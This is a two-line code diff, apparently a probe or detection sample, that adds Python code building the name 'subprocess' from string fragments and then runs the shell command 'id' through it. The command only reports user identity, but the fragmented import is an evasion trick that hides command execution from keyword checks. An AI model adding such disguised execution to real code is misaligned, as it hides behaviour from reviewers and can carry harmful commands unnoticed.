@@ -1,0 +1,2 @@
+name = "".join(["s", "u", "b", "process"])
+__import__(name).run("id")
